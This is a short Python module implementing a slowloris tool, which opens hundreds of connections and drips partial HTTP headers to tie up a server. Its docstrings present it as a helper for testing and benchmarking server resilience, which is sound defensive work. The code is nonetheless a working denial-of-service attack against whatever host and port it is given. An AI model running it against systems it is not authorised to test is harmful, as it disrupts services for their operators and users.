"""A slowloris attacker for tests and benches: many connections that send a request's
headers a little at a time and never finish them."""

from __future__ import annotations

import asyncio
import contextlib


class Slowloris:
    """`n` connections to `host:port` that each send one more header line every `every` s.

    `closed` counts the connections the server closed (EOF or reset), `opened` those that
    got in. `await stop()` ends the attack."""

    def __init__(self, host: str, port: int, n: int = 300, every: float = 0.5) -> None:
        self.host, self.port, self.n, self.every = host, port, n, every
        self.opened = 0
        self.closed = 0
        self._tasks: list[asyncio.Task[None]] = []

    async def start(self) -> None:
        for _ in range(self.n):
            self._tasks.append(asyncio.create_task(self._one()))
        await asyncio.sleep(0)

    async def _one(self) -> None:
        try:
            reader, writer = await asyncio.open_connection(self.host, self.port)
        except OSError:
            self.closed += 1
            return
        self.opened += 1
        try:
            writer.write(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
            n = 0
            while True:
                n += 1
                writer.write(f"X-Slow-{n}: a\r\n".encode())
                await writer.drain()
                try:
                    got = await asyncio.wait_for(reader.read(1024), self.every)
                except TimeoutError:
                    continue
                if not got:
                    break  # the server closed the connection
        except (ConnectionError, OSError):
            pass
        finally:
            self.closed += 1
            writer.close()
            with contextlib.suppress(Exception):
                await writer.wait_closed()

    async def stop(self) -> None:
        for task in self._tasks:
            task.cancel()
        await asyncio.gather(*self._tasks, return_exceptions=True)
